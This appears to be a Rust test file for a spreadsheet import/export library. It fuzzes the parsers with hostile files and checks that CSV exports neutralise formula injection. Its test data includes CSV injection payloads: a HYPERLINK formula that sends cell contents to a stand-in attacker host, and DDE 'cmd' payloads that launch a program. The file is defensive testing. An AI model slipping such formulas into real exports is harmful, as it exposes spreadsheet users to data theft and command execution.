//! Import files of every kind, fed hostile bytes and cells: the parser answers with records or problems, never a
//! panic. And CSV exports guard text cells against formula injection (OWASP) while reading back unchanged.
//! Property tests; `PROPTEST_CASES` sets the count (small by default; `scripts/fuzz.sh` runs them longer).
#![allow(clippy::unwrap_used)]

use jiff::civil::date;
use plantrack_core::plan::embedded::shuangtaizi;
use plantrack_core::registry::Talent;
use plantrack_exchange::formula::{guard, unguard};
use plantrack_exchange::write::{CsvOut, export_workbook};
use plantrack_exchange::{Context, Kind, Parser, Problem, Records};
use proptest::prelude::*;

fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn cx() -> Context {
    let plan = shuangtaizi().unwrap();
    Context::for_plan(&plan, ["211102001".to_string()], Some("tester".into()))
}

fn read(bytes: Vec<u8>, name: &str, kind: Kind) -> (Vec<Records>, Vec<Problem>) {
    let cx = cx();
    let mut p = match Parser::open(bytes, name, kind) {
        Ok(p) => p,
        Err(problems) => return (Vec::new(), problems),
    };
    let mut records = Vec::new();
    let mut problems = Vec::new();
    while let Some(b) = p.next_batch(3, &cx) {
        records.push(b.records);
        problems.extend(b.problems);
    }
    (records, problems)
}

fn talents(records: Vec<Records>) -> Vec<Talent> {
    records
        .into_iter()
        .flat_map(|r| match r {
            Records::Talents(v) => v,
            _ => Vec::new(),
        })
        .collect()
}

fn talent(name: &str, note: Option<&str>) -> Talent {
    Talent {
        name: name.into(),
        category: "高端创新创业人才".into(),
        introduced_on: date(2019, 5, 6),
        employer_uscc: None,
        org_unit_code: "211102".into(),
        note: note.map(str::to_owned),
    }
}

const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    // (A leading tab is guarded too, but import trims the space around cells: not part of this round trip.)
    "=1+1",
    "'=already quoted",
    "''+two quotes",
    "普通名称",
];

#[test]
fn csv_exports_guard_formulas_and_read_back_unchanged() {
    let rows: Vec<Talent> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, f)| talent(f, Some(&format!("{f}#{i}"))))
        .map(|mut t| {
            // Names are unique per key; the date makes each row its own.
            t.introduced_on = date(2019, 5, 1 + t.note.as_ref().unwrap().len() as i8 % 28);
            t
        })
        .collect();
    let mut csv = CsvOut::new(Kind::Talents, Vec::new()).unwrap();
    for t in &rows {
        csv.row(t).unwrap();
    }
    let bytes = csv.finish().unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    // No cell of the file begins with a formula character.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
    assert!(text.contains("'=HYPERLINK"), "{text}");
    let (back, p) = read(bytes, "t.csv", Kind::Talents);
    assert!(p.is_empty(), "{p:?}");
    assert_eq!(talents(back), rows);
    // XLSX writes them as text cells, as they are, and reads them back unchanged too.
    let (back, p) = read(export_workbook(&rows).unwrap(), "t.xlsx", Kind::Talents);
    assert!(p.is_empty(), "{p:?}");
    assert_eq!(talents(back), rows);
}

#[test]
fn numbers_are_not_guarded() {
    use plantrack_exchange::write::Out;
    assert_eq!(Out::Number(rust_decimal::Decimal::from(-5)).csv_text(), "-5");
    assert_eq!(Out::Text("-5".into()).csv_text(), "'-5");
}

fn hostile_text() -> impl Strategy<Value = String> {
    let special = prop::sample::select(vec![
        '一', '２', '\u{301}', '\u{0}', '\t', '\n', '\r', '\u{7f}', '\u{d7ff}', '\u{e000}', '\u{feff}',
        '\u{fffd}', '"', '\'', ',', ';', '=', '+', '-', '@', '.', '%', ' ', '0', '1', '9', 'e', 'E', '万',
        '亿', '(', ')',
    ]);
    prop_oneof![
        3 => any::<String>(),
        3 => prop::collection::vec(special, 0..24).prop_map(|v| v.into_iter().collect()),
        1 => (any::<char>(), 500usize..5000).prop_map(|(c, n)| std::iter::repeat_n(c, n).collect()),
    ]
}

/// A CSV of `kind` with its real header and hostile cells.
fn csv_of(kind: Kind, rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let headers: Vec<&str> = kind.fields().iter().map(|c| c.zh).collect();
    w.write_record(&headers).unwrap();
    for r in rows {
        let cells: Vec<&str> = (0..headers.len())
            .map(|i| r.get(i).map_or("", String::as_str))
            .collect();
        w.write_record(&cells).unwrap();
    }
    w.into_inner().unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(64), ..ProptestConfig::default() })]

    /// Guarding and unguarding is exact for any text, and the guarded form never starts a formula.
    #[test]
    fn guard_round_trips(text in hostile_text()) {
        let g = guard(&text);
        prop_assert!(!g.starts_with(['=', '+', '-', '@', '\t', '\r']));
        prop_assert_eq!(unguard(&g), text.as_str());
    }

    /// Rows of every kind with hostile cells (numbers, dates, codes, USCCs, text): records or problems.
    #[test]
    fn csv_rows_of_every_kind(
        kind in prop::sample::select(Kind::ALL.to_vec()),
        rows in prop::collection::vec(prop::collection::vec(hostile_text(), 0..12), 1..4),
    ) {
        let _ = read(csv_of(kind, &rows), "f.csv", kind);
    }

    /// Whole files of arbitrary bytes, under each accepted name (CSV, XLSX, XLS, ODS).
    #[test]
    fn arbitrary_files(
        kind in prop::sample::select(Kind::ALL.to_vec()),
        name in prop::sample::select(vec!["f.csv", "f.xlsx", "f.xls", "f.ods", "f.txt", "f"]),
        bytes in prop_oneof![
            prop::collection::vec(any::<u8>(), 0..512),
            hostile_text().prop_map(String::into_bytes),
            // Zip archives, as XLSX and ODS are, with junk after the signature.
            prop::collection::vec(any::<u8>(), 0..256).prop_map(|mut v| { v.splice(0..0, *b"PK\x03\x04"); v }),
            // UTF-16 and UTF-8 byte order marks before junk.
            prop::collection::vec(any::<u8>(), 0..256).prop_map(|mut v| { v.splice(0..0, [0xFF, 0xFE]); v }),
            prop::collection::vec(any::<u8>(), 0..256).prop_map(|mut v| { v.splice(0..0, [0xEF, 0xBB, 0xBF]); v }),
        ],
    ) {
        let _ = read(bytes, name, kind);
    }

    /// Spreadsheet cells of every type (text, numbers of any size, dates, booleans, formulas) under the headers.
    #[test]
    fn xlsx_cells_of_every_kind(
        kind in prop::sample::select(Kind::ALL.to_vec()),
        cells in prop::collection::vec((0u8..5, hostile_text(), any::<f64>()), 0..16),
    ) {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        for (i, c) in kind.fields().iter().enumerate() {
            sheet.write_string(0, i as u16, c.zh).unwrap();
        }
        let width = kind.fields().len();
        for (n, (ty, text, x)) in cells.iter().enumerate() {
            let (row, col) = (1 + (n / width) as u32, (n % width) as u16);
            let text: String = text.chars().filter(|c| !c.is_control()).take(200).collect();
            let _ = match ty {
                0 => sheet.write_string(row, col, &text).map(|_| ()),
                1 => sheet.write_number(row, col, *x).map(|_| ()),
                2 => sheet.write_boolean(row, col, *x > 0.0).map(|_| ()),
                3 => sheet.write_formula(row, col, rust_xlsxwriter::Formula::new("=1/0")).map(|_| ()),
                _ => {
                    let when = rust_xlsxwriter::ExcelDateTime::from_serial_datetime(x.abs() % 3_000_000.0)
                        .unwrap_or_else(|_| rust_xlsxwriter::ExcelDateTime::from_ymd(2019, 1, 1).unwrap());
                    sheet.write_datetime(row, col, when).map(|_| ())
                }
            };
        }
        if let Ok(bytes) = book.save_to_buffer() {
            let _ = read(bytes, "f.xlsx", kind);
        }
    }
}
